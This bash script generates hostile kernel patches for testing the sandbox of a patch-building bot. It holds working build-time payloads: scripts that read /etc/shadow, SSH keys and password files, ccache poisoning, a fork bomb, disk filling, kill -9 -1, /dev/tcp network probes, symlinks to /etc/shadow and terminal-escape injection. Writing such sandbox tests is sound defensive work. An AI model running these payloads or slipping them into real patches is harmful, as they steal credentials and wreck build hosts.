#!/bin/bash
# Regenerates the hostile patches of this directory from a checkout of the
# default base (Debian's linux-source-6.1 as images.ImportDebian imports
# it). Each patch is what an attacker could mail to a list patchbot reads:
# a change that runs code at build time. See README.md.
#
#   testdata/hostile/make-patches.sh /path/to/checkout   (fs/squashfs and arch/x86/boot are enough)
set -euo pipefail
tree=$1
out=$(cd "$(dirname "$0")" && pwd)
cd "$tree"
base=$(git rev-parse HEAD)

export GIT_AUTHOR_NAME="Mallory Hostile" GIT_AUTHOR_EMAIL="mallory@example.org"
export GIT_COMMITTER_NAME="Mallory Hostile" GIT_COMMITTER_EMAIL="mallory@example.org"
export GIT_AUTHOR_DATE="2026-11-30T12:00:00Z" GIT_COMMITTER_DATE="2026-11-30T12:00:00Z"

# patch NAME SUBJECT: commits what the caller changed and writes NAME.patch.
patch() {
	git add -A -f fs/squashfs arch/x86/boot
	git -c gc.auto=0 commit -q -m "$2" -m "A hostile build-time change (patchbot's sandbox tests)."
	git format-patch -q -1 --stdout --no-signature >"$out/$1.patch"
	git reset -q --hard "$base"
}

mk=fs/squashfs/Makefile
# A line that makes the C file recompile (a patched build compiles only
# what changed), so that the build has something to write.
touch_c() { sed -i '0,/^#include/s//\/* recompile me *\/\n#include/' fs/squashfs/cache.c; }

# 1. Look for patchbot's state, config and secrets and print whatever is found.
cat >fs/squashfs/probe-read.sh <<'EOF'
# Prints every secret it can find into the build log (the public artifact).
m=ESC; m="${m}APED"
for f in /var/lib/patchbot/state.db /var/lib/patchbot/patchbot.yaml /etc/patchbot/patchbot.yaml \
	/etc/patchbot/smtp-password /etc/patchbot/imap-password /var/lib/patchbot/smtp-password \
	/etc/shadow /root/.ssh/id_rsa /proc/1/root/etc/shadow \
	/var/tmp/patchbot-hostile-canary /var/cache/patchbot/kernels/*/build.json; do
	[ -r "$f" ] && { echo "$m: read $f"; head -c 4096 "$f"; echo; }
done
for f in /proc/[0-9]*/cmdline /proc/[0-9]*/environ; do
	tr '\0' ' ' <"$f" 2>/dev/null; echo
done
find / \( -path /proc -o -path /usr -o -path /sys -o -name tree -o -name .out \) -prune -o \
	\( -name 'state.db*' -o -name '*.yaml' -o -name '*password*' -o -name '*.db' \) -print 2>/dev/null |
while read -r f; do echo "$m: found $f"; head -c 4096 "$f"; echo; done
grep -rsI CANARY / --exclude-dir=proc --exclude-dir=usr --exclude-dir=sys --exclude-dir=tree --exclude-dir=.out 2>/dev/null | head -n 100
ls -la / /tmp /var /run /home /root 2>&1
echo "hostile probe done: ${0##*/}"
EOF
echo '$(shell sh $(srctree)/fs/squashfs/probe-read.sh >&2)' >>$mk
patch read-secrets "squashfs: read patchbot's state, config and password files"

# 2. The issue's one-liner: make the compiler read a host file and quote it.
sed -i '0,/^#include/s//#include "\/var\/tmp\/patchbot-hostile-canary"\n#include/' fs/squashfs/cache.c
patch include-host-file "squashfs: #include a file of the host"

# 3. Write outside the object tree: the sources (hard links of the base's),
#    the host, and a nested user namespace for uid 0.
cat >fs/squashfs/probe-write.sh <<'EOF'
# $1: the source tree. Reports each write that worked.
m=ESC; m="${m}APED"
src=$1
for f in "$src/Makefile" "$src/fs/squashfs/cache.c" /usr/bin/gcc; do
	(: >>"$f") 2>/dev/null && echo "$m: appended to $f"
	touch -d 2001-01-01 "$f" 2>/dev/null && echo "$m: touched $f"
	chmod 666 "$f" 2>/dev/null && echo "$m: chmod $f"
	ln "$f" "$src/.out/hostile-link" 2>/dev/null && echo "$m: hard link of $f"
done
for d in "$src" "$src/fs/squashfs" / /usr /etc /var/tmp /dev /var/lib/patchbot /var/cache/patchbot \
	/var/cache/patchbot/kernels /var/cache/patchbot/ccache /root /home; do
	(echo planted >"$d/patchbot-hostile-planted") 2>/dev/null && echo "$m: wrote $d/patchbot-hostile-planted"
done
unshare --user --map-root-user sh -c 'mount -o remount,rw "$1" && echo > "$1/Makefile"' sh "$src" 2>/dev/null &&
	echo "$m: root in a nested user namespace"
mount -o remount,rw "$src" 2>/dev/null && echo "$m: remounted the sources"
echo "hostile probe done: ${0##*/}"
EOF
echo '$(shell sh $(srctree)/fs/squashfs/probe-write.sh $(abspath $(srctree)) >&2)' >>$mk
patch write-outside "squashfs: write outside the build directory"

# 4. Poison later builds through ccache.
cat >fs/squashfs/probe-ccache.sh <<'EOF'
m=ESC; m="${m}APED"
printf 'prefix_command = /tmp/evil\n' >/tmp/evil.conf
for d in "${CCACHE_DIR:-}" /var/cache/patchbot/ccache "$HOME/.ccache" "$HOME/.config/ccache" /etc; do
	[ -n "$d" ] || continue
	cp /tmp/evil.conf "$d/ccache.conf" 2>/dev/null && echo "$m: planted $d/ccache.conf"
	(echo poison >"$d/0/poison") 2>/dev/null && echo "$m: wrote into $d"
done
ccache -o prefix_command=/tmp/evil 2>/dev/null && ccache -p 2>/dev/null | grep -q evil && echo "$m: ccache -o"
echo "hostile probe done: ${0##*/}"
EOF
echo '$(shell sh $(srctree)/fs/squashfs/probe-ccache.sh >&2)' >>$mk
patch plant-ccache "squashfs: plant a ccache.conf for later builds"

# 5. Plant /tmp files that patchbot or a later build would trust.
cat >fs/squashfs/probe-tmp.sh <<'EOF'
boot=$(cat /proc/sys/kernel/random/boot_id 2>/dev/null)
for f in "/tmp/patchbot-kvm-hangs-$boot" /tmp/patchbot-hostile-planted /dev/shm/patchbot-hostile-planted \
	/var/tmp/patchbot-hostile-planted; do
	echo planted >"$f" 2>/dev/null
done
echo "hostile probe done: ${0##*/}"
EOF
echo '$(shell sh $(srctree)/fs/squashfs/probe-tmp.sh >&2)' >>$mk
patch plant-tmp "squashfs: plant files in /tmp"

# 6, 7. Hand back artifacts that are links to a root-only file.
sed -i "s|^\t@\$(kecho) 'Kernel: \$@ is ready'|\t@rm -f \$@ \&\& ln -s /etc/shadow \$@\n&|" arch/x86/boot/Makefile
patch symlink-bzimage "x86/boot: make bzImage a link to /etc/shadow"
sed -i "s|^\t@\$(kecho) 'Kernel: \$@ is ready'|\t@rm -f \$(objtree)/.config \&\& ln -s /etc/shadow \$(objtree)/.config\n&|" arch/x86/boot/Makefile
patch symlink-config "x86/boot: make .config a link to /etc/shadow"

# 8. Fork bomb, left running in the background while the build goes on.
echo "\$(shell sh -c 'f() { f | f & }; f' >/dev/null 2>&1 </dev/null)" >>$mk
touch_c
patch fork-bomb "squashfs: fork without end"

# 9. Fill the disk: the object tree's file system and /tmp.
echo '$(shell dd if=/dev/zero of=$(objtree)/hostile-fill bs=1M >/dev/null 2>&1; dd if=/dev/zero of=/tmp/hostile-fill bs=1M >/dev/null 2>&1)' >>$mk
touch_c
patch fill-disk "squashfs: fill the disk"

# 10. Allocate without bound in a build step.
cat >>$mk <<'EOF'
$(obj)/cache.o: $(obj)/hostile-hog
$(obj)/hostile-hog: FORCE
	$(Q)perl -e '@a = (); push @a, "x" x (1 << 26) while 1'
EOF
patch alloc "squashfs: allocate memory without bound"

# 11. Reach the network.
cat >fs/squashfs/probe-net.sh <<'EOF'
m=ESC; m="${m}APED"
cat /proc/net/dev
for a in 127.0.0.1/47413 10.0.2.2/80 192.168.0.1/80 1.1.1.1/53 8.8.8.8/53; do
	timeout 2 bash -c "echo hostile >/dev/tcp/${a%/*}/${a#*/}" 2>/dev/null && echo "$m: connected to $a"
done
getent hosts deb.debian.org >/dev/null 2>&1 && echo "$m: resolved a name"
echo "hostile probe done: ${0##*/}"
EOF
echo '$(shell sh $(srctree)/fs/squashfs/probe-net.sh >&2)' >>$mk
patch network "squashfs: reach the network"

# 12. Flood the log with a million error-shaped lines, then fail for real.
echo "\$(shell yes 'fs/squashfs/cache.c:1:1: error: flood of the build log' | head -n 1000000 >&2)" >>$mk
sed -i '0,/^#include/s//#error the flood is over\n#include/' fs/squashfs/cache.c
patch flood "squashfs: print a million error lines"

# 13. Hang until the time limit.
echo '$(shell sleep 3600)' >>$mk
patch hang "squashfs: hang the build"

# 14. Kill every process the build can see.
echo '$(shell kill -9 -1)' >>$mk
patch kill-all "squashfs: kill every process in sight"

# 15. Compiler output carrying trailers and escape sequences, quoted back
#     in the reply: b4 must not take the trailers, no terminal the escapes.
printf '#warning \033]0;pwned\007 \033[2J\302\23331m the screen is yours\n#error Reviewed-by: Mallory Hostile <mallory@example.org>\n' >fs/squashfs/hostile-diag.h
sed -i '0,/^#include/s//#include "hostile-diag.h"\n#include/' fs/squashfs/cache.c
patch trailers-escapes "squashfs: compiler output with trailers and escape sequences"

# 16. Print "No space left on device" and fail, with room on every disk.
cat >>$mk <<'EOF'
$(obj)/cache.o: $(obj)/hostile-nospace
$(obj)/hostile-nospace: FORCE
	$(Q)echo "fs/squashfs/cache.o: write error: No space left on device" >&2; exit 1
EOF
patch nospace-text "squashfs: say the disk is full"

# 17. Write 3 GiB in 3,072 files, each under the file size limit.
echo '$(shell for i in $$(seq 3072); do dd if=/dev/zero of=$(objtree)/hostile-out-$$i bs=1M count=1 2>/dev/null; done)' >>$mk
touch_c
patch output-3g "squashfs: write 3 GiB in many files"

# 18. A kernel that prints a 16 MiB line (no newline, straight to the
#     serial port) and then panics.
sed -i '0,/^#include/s//#include <linux\/io.h>\n#include/' fs/squashfs/super.c
cat >>fs/squashfs/super.c <<'EOF'

static int __init hostile_console_flood(void)
{
	unsigned long i;

	for (i = 0; i < (16UL << 20); i++)
		outb('A', 0x3f8);
	panic("hostile: after a 16 MiB console line");
	return 0;
}
late_initcall(hostile_console_flood);
EOF
patch console-flood "squashfs: print a 16 MiB console line, then panic"

# 19, 20. A series, and a second one whose base-commit names the commit git
#     am made of the first (its id is in patchbot's reply; the test puts it
#     in for @FIRST-SERIES-HEAD@).
sed -i '0,/^ \* cache.c$/s// * cache.c (the first series was here)/' fs/squashfs/cache.c
patch base-first "squashfs: a harmless first series"
sed -i '0,/^ \* block.c$/s// * block.c (the second series was here)/' fs/squashfs/block.c
git add -A -f fs/squashfs
git -c gc.auto=0 commit -q -m "squashfs: a series on the first one's commit" -m "A hostile series (patchbot's provenance tests)."
{ git format-patch -q -1 --stdout --no-signature; printf '\nbase-commit: @FIRST-SERIES-HEAD@\n'; } >"$out/base-from-series.patch"
git reset -q --hard "$base"

# 21. A series of 60 patches, threaded: one answer, no build.
for i in $(seq 60); do
	echo "/* long series, patch $i */" >>fs/squashfs/cache.c
	git add -f fs/squashfs/cache.c
	git -c gc.auto=0 commit -q -m "squashfs: patch $i of a long series"
done
tmp=$(mktemp -d)
git format-patch -q --thread=shallow --no-signature -o "$tmp" "$base"
for f in "$tmp"/*.patch; do
	n=$(basename "$f" | cut -c1-4 | sed 's/^0*//')
	# Fixed Message-IDs (format-patch's carry the time): byte for byte again.
	sed -e "s|^Message-Id: <.*>|Message-Id: <long-series-$n@example.org>|" \
		-e "s|^In-Reply-To: <.*>|In-Reply-To: <long-series-1@example.org>|" \
		-e "s|^References: <.*>|References: <long-series-1@example.org>|" "$f"
	echo # an empty line before the next "From " line: mbox
done >"$out/long-series.mbox"
rm -r "$tmp"
git reset -q --hard "$base"

ls "$out"/*.patch "$out"/*.mbox
